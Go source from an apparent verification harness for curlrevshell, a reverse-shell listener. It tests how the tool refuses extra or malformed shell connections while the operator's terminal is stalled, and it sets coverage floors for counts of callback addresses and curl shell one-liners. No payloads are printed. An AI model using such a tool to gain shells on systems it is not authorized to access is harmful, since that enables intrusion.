	r.Floor("many_binary_runs", q(6, 32))
	r.Floor("many_inproc_servers", q(6, 48))
	r.Floor("many_callback_addresses_given", q(600, 5000))
	r.Floor("many_runs_with_17_to_19_addresses", q(2, 12))
	r.Floor("many_runs_with_150_to_200_addresses", q(2, 12))
	r.Floor("many_runs_on_wildcard_listener", q(4, 30))
	r.Floor("many_runs_on_wildcard_listener_with_ipv6_one_liners", q(2, 15))
	r.Floor("many_runs_with_ipv6_one_liners", q(6, 40))
	r.Floor("many_files:dir", q(2, 20))
	r.Floor("many_files:file", q(2, 20))
	r.Floor("many_files:off", q(2, 20))
	r.Floor("many_blocks_checked_for_completeness:"+siteShell, q(12, 80))
	r.Floor("many_blocks_checked_for_completeness:"+siteFile, q(6, 40))
	r.Floor("many_blocks_checked_for_completeness:"+siteReprint, q(8, 50))
	r.Floor("many_blocks_of_18_or_more_oneliners:"+siteShell, q(12, 80))
	r.Floor("many_blocks_of_18_or_more_oneliners:"+siteFile, q(6, 40))
	r.Floor("many_blocks_of_18_or_more_oneliners:"+siteReprint, q(8, 50))
	r.Floor("many_blocks_of_100_or_more_oneliners:"+siteShell, q(2, 12))
	r.Floor("many_wanted_oneliners_found:"+siteShell, q(600, 5000))
	r.Floor("many_wanted_oneliners_found:"+siteFile, q(200, 1500))
	r.Floor("many_wanted_oneliners_found:"+siteReprint, q(400, 2000))
	r.Floor("many_reprints_checked", q(8, 50))
	r.Floor("many_one_shell_runs", q(2, 16))
	r.Floor("many_oneliners_run_with_curl", q(10, 60))
	// the other options of the program: each one, alone and in pairs
	for _, o := range manyOpts {
		r.Floor("many_option:"+o, q(1, 8))
	}
	r.Floor("many_option_cell:none", q(1, 2))
	r.Floor("many_options_alone", q(2, 10))
	r.Floor("many_option_pairs", q(3, 20))
	if r.Thorough() {
		for _, cell := range manyCells {
			switch len(cell) {
			case 1:
				r.Floor("many_option_alone:"+cell[0], 2)
			case 2:
				r.Floor("many_option_pair:"+strings.Join(cell, "+"), 2)
			}
		}
		r.Floor("many_log_given_by:environment", 2)
		for _, sp := range spellings {
			r.Floor("many_flag_spelling:"+sp, 4)
		}
	}
	r.Floor("many_log_given_by:flag", q(1, 2))
	for _, cf := range []string{"off", "file", "default-path"} {
		r.Floor("many_cache:"+cf, q(2, 8))
	}
}

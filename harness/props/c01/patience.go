package c01

import (
	"fmt"
	"io"
	"strings"
	"sync/atomic"
	"time"

	"github.com/magisterquis/curlrevshell/internal/iobroker"
	"github.com/magisterquis/curlrevshell/lib/opshell"
	"github.com/magisterquis/curlrevshell/verifharness/mon"
	"github.com/magisterquis/curlrevshell/verifharness/mon/bk"
)

// patienceReasons are the refusals the engine makes, one world each: the state
// the broker is in, and the attempt that is made in it.  Together they go
// through every refusal branch the property names (missing ID, a second
// stream of a direction, a different ID, a bidirectional request onto
// anything, anything onto a bidirectional shell, anything during tear-down).
var patienceReasons = []string{
	"missing-id-idle",              // nothing attached; a stream without an ID
	"missing-id-attached",          // half or fully attached shell; a stream without an ID
	"wrong-id-uni",                 // one direction attached with "k"; the other direction with a related ID
	"duplicate-uni",                // a direction that is attached (half or full shell), same or other ID
	"uni-onto-io",                  // a bidirectional shell; a unidirectional stream
	"io-onto-uni-same-half-first",  // one direction attached; an /io request, the half of that direction decided first
	"io-onto-uni-other-half-first", // the same, the half of the free direction decided first
	"io-onto-full-uni",             // a two-stream shell; an /io request
	"io-onto-io",                   // a bidirectional shell; a second /io request
	"io-onto-half-io",              // an /io request one half of which is attached and the other still on its way in; the free direction's half of a second /io request
	"uni-onto-half-io",             // the same state; a unidirectional stream for the free direction
	"teardown-uni",                 // the previous shell (two streams or /io) is being torn down; a unidirectional stream
	"teardown-io",                  // the same; an /io request
	"teardown-missing-id",          // the same; a stream without an ID
}

// patienceBound bounds what has to happen once the terminal has resumed.
const patienceBound = 3 * bk.Bound

// patience: refusals decided while the operator's terminal does not take
// anything — for seconds, not for the instant the other engines stall it.
//
// The operator is told about a refusal through his terminal, and a terminal
// can be stopped (^S, a hung SSH session, a slow link) for as long as it
// likes.  "The operator is told" has no time limit in it: a refusal that is
// decided while the terminal is stopped has to be on the terminal once it
// runs again, however long that took.  Each case builds one state in gate
// mode (everything of the previous shell parked), stalls the terminal behind
// an operator channel that is exactly full, makes ONE attempt the property
// wants refused, waits until its refusal record is in the log, lets 4, 8, 16
// or 31 s (thorough: also 65 s) of real time pass, and resumes the terminal.
//
// Verdicts, all from the event log after a closing marker line went through
// the terminal (no verdict looks at a clock):
//   - the attempt is not attached, in no direction, neither before nor after
//     the terminal resumed;
//   - it returns once the terminal runs again (bounded wait, 30 s);
//   - a red operator notice naming its address is displayed;
//   - it was sent no operator input (a line is pending all the time) and none
//     of the output it offers is displayed.
//
// That the refusal really sat out the stall is a floor, not a verdict: the
// notice was displayed as the (capacity+2)th or later line after the stall
// began (so it had not been handed over when the terminal resumed), after the
// "resume" note, the refusal record lies before that note, and at least the
// case's stall lies between the two.
func patience(r *mon.Run) {
	type pcase struct {
		reason string
		stall  time.Duration
		pre    string // none half-uni full-uni full-io half-io tear-uni tear-io
		preDir string // half-*: the direction that is attached; tear-*: the direction that is still to be released
		endHow string // tear-*: how the previous shell was ended
		kind   string // in out io
		key    string
		first  string // io: the half that is decided first
		och    int
		busy   bool // the attached shell keeps printing while the terminal is stalled
		wk     bk.WriterKind
		settle time.Duration
	}
	stalls := []time.Duration{4 * time.Second, 8 * time.Second, 16 * time.Second, 31 * time.Second}
	if r.Thorough() {
		stalls = append(stalls, 65*time.Second)
	}
	rounds := r.N(1, 2)
	n := len(patienceReasons) * len(stalls) * rounds
	stallName := func(d time.Duration) string { return fmt.Sprintf("%ds", int(d/time.Second)) }
	other := map[string]string{"input": "output", "output": "input"}
	kindOf := map[string]string{"input": "in", "output": "out"}
	dirOf := map[string]string{"in": "input", "out": "output"}
	related := []string{"K", "k1", "kk", "k ", "é", "k\x00", "%s", "", "k"} // the last two only where any ID must be refused
	var nHeld, nRan atomic.Int64

	// every case in its own goroutine: they do nothing but wait most of the time
	mon.Parallel(n, n, func(i int) {
		if !r.Want("patience", i) {
			return
		}
		rng := r.Rng("patience", i)
		c := pcase{
			reason: patienceReasons[i%len(patienceReasons)],
			stall:  stalls[(i/len(patienceReasons))%len(stalls)],
			och:    []int{0, 1, 2, 5, 1024}[rng.IntN(5)],
			busy:   rng.IntN(2) == 0,
			wk:     bk.WriterKind(rng.IntN(4)),
			settle: time.Duration(3+rng.IntN(40)) * time.Millisecond,
		}
		dir := []string{"input", "output"}[rng.IntN(2)]
		dir2 := []string{"input", "output"}[rng.IntN(2)]
		wrongID := related[rng.IntN(len(related)-2)]
		anyID := related[rng.IntN(len(related))]
		if anyID == "" {
			anyID = "k"
		}
		c.first = dir2
		switch c.reason {
		case "missing-id-idle":
			c.pre, c.kind, c.key = "none", kindOf[dir], ""
		case "missing-id-attached":
			c.pre, c.preDir, c.kind, c.key = []string{"half-uni", "full-uni", "full-io", "half-io"}[rng.IntN(4)], dir, kindOf[dir2], ""
		case "wrong-id-uni":
			c.pre, c.preDir, c.kind, c.key = "half-uni", dir, kindOf[other[dir]], wrongID
		case "duplicate-uni":
			c.pre, c.preDir, c.kind, c.key = []string{"half-uni", "full-uni"}[rng.IntN(2)], dir, kindOf[dir], []string{"k", "k", wrongID}[rng.IntN(3)]
		case "uni-onto-io":
			c.pre, c.preDir, c.kind, c.key = "full-io", dir, kindOf[dir2], anyID
		case "io-onto-uni-same-half-first":
			c.pre, c.preDir, c.kind, c.first = "half-uni", dir, "io", dir
		case "io-onto-uni-other-half-first":
			c.pre, c.preDir, c.kind, c.first = "half-uni", dir, "io", other[dir]
		case "io-onto-full-uni":
			c.pre, c.preDir, c.kind = "full-uni", dir, "io"
		case "io-onto-io":
			c.pre, c.preDir, c.kind = "full-io", dir, "io"
		case "io-onto-half-io":
			c.pre, c.preDir, c.kind, c.first = "half-io", dir, "io", other[dir]
		case "uni-onto-half-io":
			c.pre, c.preDir, c.kind, c.key = "half-io", dir, kindOf[other[dir]], anyID
		case "teardown-uni":
			c.pre, c.preDir, c.kind, c.key = []string{"tear-uni", "tear-io"}[rng.IntN(2)], dir, kindOf[dir2], anyID
		case "teardown-io":
			c.pre, c.preDir, c.kind = []string{"tear-uni", "tear-io"}[rng.IntN(2)], dir, "io"
		case "teardown-missing-id":
			c.pre, c.preDir, c.kind, c.key = []string{"tear-uni", "tear-io"}[rng.IntN(2)], dir, kindOf[dir2], ""
		}
		if c.pre == "tear-uni" || c.pre == "tear-io" {
			if c.preDir == "input" {
				c.endHow = []string{"cancel", "eof", "err"}[rng.IntN(3)] // of the output side
			} else {
				c.endHow = []string{"cancel", "werr"}[rng.IntN(2)] // of the input side
			}
		}

		w, err := bk.NewWorld(c.och, 64)
		if err != nil {
			r.Inconclusive(err.Error())
			return
		}
		closed := false
		closeWorld := func() {
			if !closed {
				closed = true
				w.Close()
			}
		}
		defer closeWorld()
		tail := 70
		viol := func(key, what string) {
			r.Violate("patience", i, key, what, map[string]any{"case": fmt.Sprintf("%+v", c), "stall": c.stall.String(), "log_tail": w.Log.Tail(tail)})
		}
		inconc := func(what string) {
			r.Inconclusive(fmt.Sprintf("patience %d (%+v): %s; log tail: %v", i, c, what, w.Log.Tail(14)))
		}
		waitEv := func(from int, d time.Duration, pred func(bk.Event) bool) (bk.Event, bool) {
			return w.Log.Wait(from, d, pred)
		}
		hookEv := func(kind string, a *bk.Attempt, point, dir string) func(bk.Event) bool {
			return func(e bk.Event) bool { return e.Kind == kind && e.Att == a.ID && e.S == point && e.Dir == dir }
		}
		isNew := func(a *bk.Attempt, dir string) func(bk.Event) bool {
			return func(e bk.Event) bool { return e.Kind == "slog" && e.Att == a.ID && e.S == bk.MsgNew && e.Dir == dir }
		}
		// a refusal record of attempt a for direction dir (the record for a missing ID carries no direction)
		isRefusal := func(a *bk.Attempt, dir string) func(bk.Event) bool {
			return func(e bk.Event) bool {
				if e.Kind != "slog" || e.Att != a.ID {
					return false
				}
				switch e.S {
				case bk.MsgKeyMissing:
					return e.Dir == "" || e.Dir == dir
				case bk.MsgDisconnecting, bk.MsgAlready, bk.MsgIncorrectKey, msgCanceled:
					return e.Dir == dir
				}
				return false
			}
		}
		opLine := func(a *bk.Attempt, text string) func(bk.Event) bool {
			return func(e bk.Event) bool {
				return e.Kind == "op" && !e.Plain && strings.HasPrefix(e.S, "["+a.Addr+"] ") && strings.Contains(e.S, text)
			}
		}
		redNotice := func(a *bk.Attempt) func(bk.Event) bool {
			return func(e bk.Event) bool {
				return e.Kind == "op" && !e.Plain && e.Color == int(opshell.ColorRed) && strings.Contains(e.S, "["+a.Addr+"]")
			}
		}
		flushTerminal := func(tag string, d time.Duration) bool {
			mark := fmt.Sprintf("PT-%s-%d", tag, i)
			select {
			case w.Och <- opshell.CLine{Line: mark}:
			case <-time.After(d):
				return false
			}
			_, ok := waitEv(0, d, func(e bk.Event) bool { return e.Kind == "op" && e.S == mark })
			return ok
		}

		// ---- the state the attempt is made in ----
		var liveOut *bk.Attempt // an attached output stream that is not ending
		attachedAll := func(a *bk.Attempt, dirs ...string) bool {
			for _, d := range dirs {
				if _, ok := waitEv(0, bk.Bound, isNew(a, d)); !ok {
					inconc("a stream of the previous shell was not attached")
					return false
				}
			}
			return true
		}
		endStream := func(a *bk.Attempt, dir, how string) {
			switch {
			case how == "eof" && dir == "output":
				a.Rd.Push(bk.ReadItem{Err: io.EOF})
			case how == "err" && dir == "output":
				a.Rd.Push(bk.ReadItem{Err: bk.ErrInjected})
			case how == "werr" && dir == "input":
				a.Wr.FailWrite(0, false)
				w.Ich <- fmt.Sprintf("PT-LOST-%d", i)
			default:
				a.Cancel()
			}
		}
		startUni := func(dir string, gateRelease bool) *bk.Attempt {
			a := w.NewAttempt(kindOf[dir], "k", c.wk)
			if gateRelease {
				a.Gate("release", dir)
			}
			a.Start()
			if !attachedAll(a, dir) {
				return nil
			}
			return a
		}
		switch c.pre {
		case "none":
		case "half-uni":
			p := startUni(c.preDir, false)
			if p == nil {
				return
			}
			if _, ok := waitEv(0, bk.Bound, opLine(p, "connected: ID")); !ok {
				inconc("the half shell was not announced")
				return
			}
			if c.preDir == "output" {
				liveOut = p
			}
		case "full-uni", "tear-uni":
			pl := startUni(c.preDir, c.pre == "tear-uni")
			if pl == nil {
				return
			}
			po := startUni(other[c.preDir], false)
			if po == nil {
				return
			}
			if _, ok := waitEv(0, bk.Bound, opLine(po, iobroker.ShellReadyMessage)); !ok {
				inconc("the previous shell was not announced as ready")
				return
			}
			if c.pre == "full-uni" {
				liveOut = po
				if c.preDir == "output" {
					liveOut = pl
				}
				break
			}
			endStream(po, other[c.preDir], c.endHow)
			if _, ok := waitEv(0, bk.Bound, hookEv("hook", po, "done", other[c.preDir])); !ok {
				viol("stream-does-not-end", fmt.Sprintf("the %s stream of the previous shell did not end (%s)", other[c.preDir], c.endHow))
				return
			}
			if _, ok := waitEv(0, bk.Bound, hookEv("parked", pl, "release", c.preDir)); !ok {
				viol("stream-does-not-end", fmt.Sprintf("the %s stream of the previous shell did not reach its tear-down without further traffic", c.preDir))
				return
			}
		case "full-io", "tear-io":
			p := w.NewAttempt("io", "", c.wk)
			if c.pre == "tear-io" {
				p.Gate("release", c.preDir)
			}
			p.Start()
			if !attachedAll(p, "input", "output") {
				return
			}
			if _, ok := waitEv(0, bk.Bound, opLine(p, iobroker.ShellReadyMessage)); !ok {
				inconc("the previous shell was not announced as ready")
				return
			}
			if c.pre == "full-io" {
				liveOut = p
				break
			}
			endStream(p, other[c.preDir], c.endHow)
			if _, ok := waitEv(0, bk.Bound, hookEv("hook", p, "done", other[c.preDir])); !ok {
				viol("stream-does-not-end", fmt.Sprintf("the %s side of the previous /io shell did not end (%s)", other[c.preDir], c.endHow))
				return
			}
			if _, ok := waitEv(0, bk.Bound, hookEv("parked", p, "release", c.preDir)); !ok {
				viol("stream-does-not-end", fmt.Sprintf("the %s side of the previous /io shell did not reach its tear-down without further traffic", c.preDir))
				return
			}
		case "half-io":
			// one half of an /io request is attached, its other half has not got as far as the broker's lock yet
			p := w.NewAttempt("io", "", c.wk)
			p.Gate("admit", other[c.preDir])
			p.Start()
			if !attachedAll(p, c.preDir) {
				return
			}
			if _, ok := waitEv(0, bk.Bound, hookEv("parked", p, "admit", other[c.preDir])); !ok {
				inconc("the other half of the first /io request did not reach the admission point")
				return
			}
			if c.preDir == "output" {
				liveOut = p
			}
		}
		// an operator line is pending from here on (an attached, live input stream of the shell may take it)
		select {
		case w.Ich <- fmt.Sprintf("PT-OPERATOR-LINE-%d", i):
		default:
			inconc("operator input channel full")
			return
		}
		if !flushTerminal("MARK", bk.Bound) {
			inconc("marker line not seen on the operator channel")
			return
		}

		// ---- the terminal stalls behind a channel that is exactly full ----
		resume := w.StallOperator()
		defer resume()
		stallSeq := w.Log.Add(bk.Event{Kind: "note", Att: -1, S: "stall"})
		for k := 0; k < c.och+1; k++ {
			select {
			case w.Och <- opshell.CLine{Line: fmt.Sprintf("PT-FILL-%d-%d", i, k)}:
			case <-time.After(bk.Bound):
				inconc("filler line not accepted by the operator channel")
				return
			}
		}
		shellBusy := c.busy && liveOut != nil
		if shellBusy {
			// the shell that is attached goes on printing; its output waits for the terminal like everything else
			liveOut.Rd.PushData(fmt.Sprintf("PT-SHELL-OUTPUT-%d-a\n", i))
			liveOut.Rd.PushData(fmt.Sprintf("PT-SHELL-OUTPUT-%d-b\n", i))
		}

		// ---- the attempt ----
		A := w.NewAttempt(c.kind, c.key, c.wk)
		tok := fmt.Sprintf("PT-REFUSED-OUTPUT<%d>;", i)
		if c.kind != "in" {
			A.Rd.PushData(tok)
		}
		firstDir := dirOf[c.kind]
		if c.kind == "io" {
			firstDir = c.first
			A.Gate("admit", "input")
			A.Gate("admit", "output")
		}
		A.Start()
		if c.kind == "io" {
			for _, d := range A.Dirs() {
				if _, ok := waitEv(stallSeq, bk.Bound, hookEv("parked", A, "admit", d)); !ok {
					inconc("a half of the /io request did not reach the admission point")
					return
				}
			}
			A.Open("admit", firstDir)
		}
		decided := func(a *bk.Attempt, dir string) func(bk.Event) bool {
			return func(e bk.Event) bool {
				return isNew(a, dir)(e) || isRefusal(a, dir)(e) || hookEv("hook", a, "done", dir)(e)
			}
		}
		firstDec, ok := waitEv(stallSeq, bk.Bound, decided(A, firstDir))
		if !ok {
			inconc("the attempt was not decided")
			return
		}
		if firstDec.S == bk.MsgNew && firstDec.Kind == "slog" {
			viol("admitted-"+c.reason, fmt.Sprintf("a %s attempt (ID %q) was attached (%s) although the property demands refusal: %s, state %s/%s, nothing else in progress", c.kind, c.key, firstDir, c.reason, c.pre, c.preDir))
			return
		}
		if c.kind == "io" {
			// the other half follows; the broker is busy with the first one for as long as the terminal does not read
			time.Sleep(c.settle)
			A.Open("admit", other[firstDir])
		}

		// ---- the terminal stays stopped ----
		time.Sleep(c.stall)
		returnedDuringStall := A.Returned()
		resumeSeq := w.Log.Add(bk.Event{Kind: "note", Att: -1, S: "resume"})
		resume()

		// ---- afterwards ----
		bad := false
		for _, d := range A.Dirs() {
			ev, ok := waitEv(stallSeq, patienceBound, decided(A, d))
			if !ok {
				viol("refused-attempt-not-ended", fmt.Sprintf("%s after the terminal resumed (stalled %s), the %s stream of a refused %s attempt (%s) was neither attached nor did it return", patienceBound, c.stall, d, c.kind, c.reason))
				return
			}
			if ev.Kind == "slog" && ev.S == bk.MsgNew {
				bad = true
				viol("refused-bidirectional-attempt-keeps-other-half", fmt.Sprintf("the %s half of an /io request was attached (event #%d) after its %s half had been refused (event #%d, %q) while the terminal was stalled: %s, state %s/%s", d, ev.Seq, firstDir, firstDec.Seq, firstDec.S, c.reason, c.pre, c.preDir))
			}
		}
		if bad {
			return
		}
		select {
		case <-A.Ret:
		case <-time.After(patienceBound):
			viol("refused-attempt-not-ended", fmt.Sprintf("a refused %s attempt (%s, %q) had not returned %s after the terminal resumed (stalled %s)", c.kind, c.reason, firstDec.S, patienceBound, c.stall))
			return
		}
		// every notice sent before Connect returned precedes this marker on the terminal
		if !flushTerminal("END", patienceBound) {
			inconc("closing marker line not seen on the operator channel")
			return
		}
		evs := w.Log.Snapshot()
		if b := A.Wr.Bytes(); len(b) > 0 {
			viol("refused-input-got-bytes", fmt.Sprintf("a refused %s attempt (%s) was sent operator input %q", c.kind, c.reason, b))
		}
		var noticeEv *bk.Event
		nth := 0
		for k := range evs[stallSeq:] {
			e := evs[stallSeq+k]
			if e.Kind != "op" {
				continue
			}
			nth++
			if e.Plain && strings.Contains(e.S, tok) {
				viol("refused-output-displayed", fmt.Sprintf("a refused %s attempt (%s) had its output %q displayed", c.kind, c.reason, e.S))
			}
			if noticeEv == nil && redNotice(A)(e) {
				noticeEv = &evs[stallSeq+k]
				noticeEv.N = nth
			}
		}
		if noticeEv == nil {
			tail = 40
			viol("refusal-not-announced-after-terminal-stall", fmt.Sprintf("a %s attempt (ID %q) was refused (%s: %q) while the operator's terminal was not taking output; the terminal resumed %s later, the attempt has ended (before the terminal resumed: %v) and every line sent so far has been displayed, but no red notice names %s: the operator was never told",
				c.kind, c.key, c.reason, firstDec.S, c.stall, returnedDuringStall, A.Addr))
			return
		}
		closeWorld()

		// ---- did the refusal sit out the stall? (coverage, not a verdict) ----
		held := firstDec.Kind == "slog" && firstDec.Seq < resumeSeq && noticeEv.Seq > resumeSeq && noticeEv.N >= c.och+2 &&
			evs[resumeSeq].T.Sub(firstDec.T) >= c.stall
		nRan.Add(1)
		r.Eval(1)
		r.Count("patience_cases", 1)
		r.Count("patience_reason:"+c.reason, 1)
		r.Count("patience_stall_"+stallName(c.stall), 1)
		r.Count("patience_state_"+c.pre, 1)
		r.Count("patience_attempt_"+c.kind, 1)
		r.Count("patience_refusal_record:"+firstDec.S, 1)
		r.Count(fmt.Sprintf("patience_operator_channel_capacity_%d", c.och), 1)
		if shellBusy {
			r.Count("patience_cases_shell_printing_during_stall", 1)
		}
		if held {
			nHeld.Add(1)
			r.Count("patience_refusals_held_through_stall", 1)
			r.Count("patience_refusals_held_through_stall_"+stallName(c.stall), 1)
		}
		r.Distinct(fmt.Sprintf("patience %s stall=%s pre=%s/%s end=%s %s key=%q first=%s och=%d busy=%v -> %s", c.reason, c.stall, c.pre, c.preDir, c.endHow, c.kind, c.key, c.first, c.och, shellBusy, firstDec.S))
		if i%19 == 0 {
			r.Sample("patience", map[string]any{"case": fmt.Sprintf("%+v", c), "stall": c.stall.String(), "refusal_record": firstDec.S, "notice": noticeEv.S, "notice_was_line_no_after_stall": noticeEv.N, "held_through_stall": held})
		}
	})
	r.Logf("patience done: %d cases, refusal held through the whole stall in %d of %d completed", n, nHeld.Load(), nRan.Load())
	if !r.Replaying() {
		r.Floor("patience_cases", int64(n))
		r.Floor("patience_refusals_held_through_stall", int64(n))
		for _, s := range stalls {
			r.Floor("patience_stall_"+stallName(s), int64(len(patienceReasons)*rounds))
			r.Floor("patience_refusals_held_through_stall_"+stallName(s), int64(len(patienceReasons)*rounds))
		}
		for _, reason := range patienceReasons {
			r.Floor("patience_reason:"+reason, int64(len(stalls)*rounds))
		}
		r.Floor("patience_attempt_io", int64(5*len(stalls)*rounds))
		r.Floor("patience_cases_shell_printing_during_stall", int64(n/14))
	}
}
